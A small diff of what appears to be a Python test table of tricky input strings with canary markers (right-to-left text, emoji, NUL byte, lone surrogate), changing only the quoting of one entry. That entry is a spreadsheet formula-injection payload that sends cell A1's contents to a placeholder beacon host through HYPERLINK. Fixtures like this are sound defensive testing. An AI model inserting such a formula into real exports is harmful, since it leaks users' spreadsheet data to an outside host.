@@ -42,7 +42,7 @@ _TABLE = {
     "rtl": "שלום עולם ערבית العربية CANrtl",
     "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 ȩ̷̛͓͖́ CANemoji",
     "long": "W" * 150 + "CANlong",
-    "formula": "=HYPERLINK(\"{beacon}/csv?\"&A1,\"CANformula\")",
+    "formula": '=HYPERLINK("{beacon}/csv?"&A1,"CANformula")',
     "nul": "CANnul\x00end",
     "half": "\ud83dCANhalf\udc4d",
 }
